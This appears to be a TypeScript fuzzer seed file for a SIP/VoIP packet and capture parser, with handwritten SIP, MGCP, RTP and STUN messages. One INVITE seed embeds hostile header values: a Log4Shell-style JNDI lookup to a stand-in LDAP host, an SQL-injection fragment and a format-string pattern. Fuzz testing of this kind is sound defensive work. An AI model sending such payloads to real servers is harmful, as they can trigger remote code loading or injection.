/** What the fuzzer begins with: a few messages written by hand, and what the shared captures hold where they are at hand. */
import { existsSync, globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { openCapture } from '../../src/capture/reader.ts';
import { writePcapHeader, writePcapRecord } from '../../src/wire/pcap.ts';
import { ROOT, SHARED } from '../peers.ts';
import { frameZoo, hep3, hepBasics, hepChunk, pcapOf, segment, sipMessage, streamZoo } from '../traces/make-links.ts';
import { LARGEST } from './mutate.ts';

/** Between two files of one input of target `capture`. */
export const SEPARATOR: Buffer = Buffer.from('\n--next file--\n');
const RAW = { linkType: 101 };
/** Most payloads taken from one capture, and files from the shared captures, so that start-up stays short. */
const PER_CAPTURE = 40;
const LARGEST_CAPTURE = 600_000;
const LARGEST_FILE_SEED = 6000;

const message = (...lines: string[]): Buffer => Buffer.from(`${lines.join('\r\n')}\r\n\r\n`);

const WRITTEN: readonly Buffer[] = [
  message(
    'REGISTER sip:example.com SIP/2.0',
    'Via: SIP/2.0/UDP 192.0.2.4:5060;branch=z9hG4bKnashds7;rport',
    'Max-Forwards: 70',
    'To: Bob <sip:bob@example.com>',
    'From: Bob <sip:bob@example.com>;tag=456248',
    'Call-ID: 843817637684230@998sdasdh09',
    'CSeq: 1826 REGISTER',
    'Contact: "B, \\"o\\" b" <sip:bob@192.0.2.4;transport=udp>;expires=60, <sip:bob@[2001:db8::9:1]>;q=0.3',
    'Authorization: Digest username="bob", realm="example.com", nonce="84a4cc6f", uri="sip:example.com",',
    ' response="7587245234b3434cc3412213e5f113a5", algorithm=MD5, cnonce="0a4f113b", qop=auth, nc=00000001',
    'Expires: 7200',
    'Content-Length: 0',
  ),
  message(
    'INVITE tel:+1-201-555-0123;phone-context=example.com SIP/2.0',
    'v: SIP / 2.0 / UDP first.example.com: 4000;ttl=16;maddr=192.0.2.2;branch=z9hG4bKa7c6a8dlze.1, SIP/2.0/TCP 192.0.2.8;branch=z9hG4bK1',
    'f: <sip:alice@example.com?Subject=x>;tag=1',
    't: sip:%62ob@example.com',
    'i: a',
    'CSeq: 1 INVITE',
    'm: *',
    'c: application/sdp',
    'k: 100rel',
    's:',
    'l: 5',
    '',
    'v=0',
  ),
  message(
    'SIP/2.0 401 Unauthorized',
    'Via: SIP/2.0/UDP 192.0.2.4;branch=z9hG4bKnashds7;received=192.0.2.9;rport=5062',
    'To: <sip:bob@example.com>;tag=1',
    'From: <sip:bob@example.com>;tag=456248',
    'Call-ID: 843817637684230@998sdasdh09',
    'CSeq: 1826 REGISTER',
    'WWW-Authenticate: Digest realm="example.com", nonce="84a4cc6f", stale=true, opaque="", qop="auth,auth-int"',
    'Warning: 399 example.com "text"',
    'Date: Sat, 13 Nov 2010 23:29:00 GMT',
    'Retry-After: 18000;duration=3600',
  ),
  message(
    'INVITE sip:bob@example.com SIP/2.0',
    'Via: SIP/2.0/UDP 192.0.2.4;branch=z9hG4bK-ZXhmaWx0cmF0ZSBtZQ',
    'From: "<sip:x@y>" <sip:o%27or%271=1--@example.com>;tag=1;tag=2',
    'To: <sip:a@b@c>, <sip:%s%s%n@d>',
    'Call-ID: 1',
    'i: 2',
    'CSeq: 1 INVITE',
    'X-Api: \x24{jndi:ldap://192.0.2.66/a}',
    'Identity: eyJhbGciOiJFUzI1NiJ9.eyJhdHRlc3QiOiJBIiwiaWF0IjoxLCJvcmlnIjp7InRuIjoiMSJ9fQ.c2ln;info=<https://a>;alg=ES256;ppt=shaken',
    'Content-Length: 5x',
  ),
  Buffer.from('CRCX 1204 aaln/1@gw MGCP 1.0\r\nC: A3\r\nI: FD\r\n\r\nv=0\r\n.\r\n200 1203 OK\r\nP: PS=1, PR=2\r\n'),
  Buffer.from('0300001a0802123405700681393234363a7e0003052000', 'hex'),
  // RTP, STUN, keep-alives.
  Buffer.from('80080001000000a0deadbeefd5d5d5d5d5d5d5d5', 'hex'),
  Buffer.from('000100002112a442000102030405060708090a0b', 'hex'),
  Buffer.from('\r\n\r\n'),
];

/** SIP messages and other payloads. */
export async function payloadSeeds(): Promise<Buffer[]> {
  const seeds = [...WRITTEN];
  for (const path of [join(ROOT, 'samples', 'attack-day.pcap'), ...sharedCaptures()]) seeds.push(...(await payloadsOf(path)));
  for (const path of globSync('captures/**/{*.sip,rfc5118/*,rfc4475/*}', { cwd: SHARED }))
    seeds.push(...smallFile(join(SHARED, path), 20_000));
  return seeds;
}

/** Whole capture files: each written payload as a pcap of its own, and small real ones of every format. */
export function captureSeeds(): Buffer[] {
  const small = sharedCaptures().flatMap((path) => smallFile(path, LARGEST_FILE_SEED));
  const heads = sharedCaptures().map((path) => readFileSync(path).subarray(0, 3000));
  const sample = readFileSync(join(ROOT, 'samples', 'attack-day.pcap')).subarray(0, 4000);
  return [...small, ...heads, sample, fragments(), ...written()];
}

/** Captures made for tests: frames of every link and tunnel, streams of every kind, HEP, several files in one input. */
function written(): Buffer[] {
  const hep = hep3(...hepBasics(), hepChunk(15, Buffer.from(sipMessage('hep'))));
  const agent = pcapOf(
    [segment(1, Buffer.concat([hep, hep.subarray(0, 40)]), 0, 9060), segment(1 + hep.length + 40, hep.subarray(40), 0, 9060)],
    RAW,
  );
  const conflict = pcapOf([segment(1, sipMessage('one')), segment(1, sipMessage('two')), segment(40, sipMessage('three'))], RAW);
  const streams = streamZoo();
  const zoo = frameZoo();
  const two = [fragments(), SEPARATOR, agent, SEPARATOR, conflict];
  return [zoo.subarray(0, LARGEST), zoo.subarray(0, 8000), streams, streams.subarray(0, 3000), agent, conflict, Buffer.concat(two)];
}

/** Every capture of moderate size in the shared folder; none where it is absent. */
function sharedCaptures(): string[] {
  const all = existsSync(SHARED) ? globSync('captures/**/*.{pcap,pcapng}', { cwd: SHARED }).sort() : [];
  return all.map((path) => join(SHARED, path)).filter((path) => readFileSync(path).length < LARGEST_CAPTURE);
}

function smallFile(path: string, most: number): Buffer[] {
  const bytes = existsSync(path) ? readFileSync(path) : Buffer.alloc(0);
  return bytes.length > 0 && bytes.length <= most ? [bytes] : [];
}

/** The first payloads of a capture that differ in their length; none if it is no capture. */
async function payloadsOf(path: string): Promise<Buffer[]> {
  const found = new Map<number, Buffer>();
  const reader = await openCapture(path).catch(() => undefined);
  if (reader === undefined) return [];
  while (found.size < PER_CAPTURE && (await reader.fill())) {
    while (found.size < PER_CAPTURE && reader.next()) {
      const { bytes, start, end } = reader.packet;
      if (!found.has(end - start)) found.set(end - start, Buffer.from(bytes.subarray(start, end)));
    }
  }
  await reader.close();
  return [...found.values()];
}

/** A pcap with a UDP datagram in two IPv4 fragments (RFC 791 §2.3), the second one first. */
function fragments(): Buffer {
  const ethernet = '0200000000020200000000010800';
  const ip = (offset: string, length: string): string => `4500${length}1234${offset}40110000c0000201c0000202`;
  const first = Buffer.from(`${ethernet}${ip('2000', '0024')}13c413c400180000${'4f5054494f4e5320'}`, 'hex');
  const second = Buffer.from(`${ethernet}${ip('0002', '001c')}7369703a61205349`, 'hex');
  return Buffer.concat([writePcapHeader(), writePcapRecord(1e12, second), writePcapRecord(1e12 + 5, first)]);
}
